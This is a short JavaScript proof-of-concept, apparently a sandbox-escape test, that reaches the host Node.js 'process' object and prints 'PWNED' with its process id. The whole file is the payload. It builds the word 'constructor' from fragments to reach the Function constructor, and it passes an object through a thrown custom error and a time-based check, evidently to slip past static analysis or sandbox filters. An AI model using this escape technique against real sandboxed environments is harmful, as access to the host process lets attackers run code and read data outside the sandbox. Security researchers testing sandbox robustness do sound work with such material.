'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
class E extends Error { constructor(x) { super(''); this.x = x; } }
let kept;
try { throw new E(t); } catch (e) { kept = e.x; }
const o = Date.now() > 1 ? kept : {};
console.log('PWNED', o.go(fn)('return process')().pid);
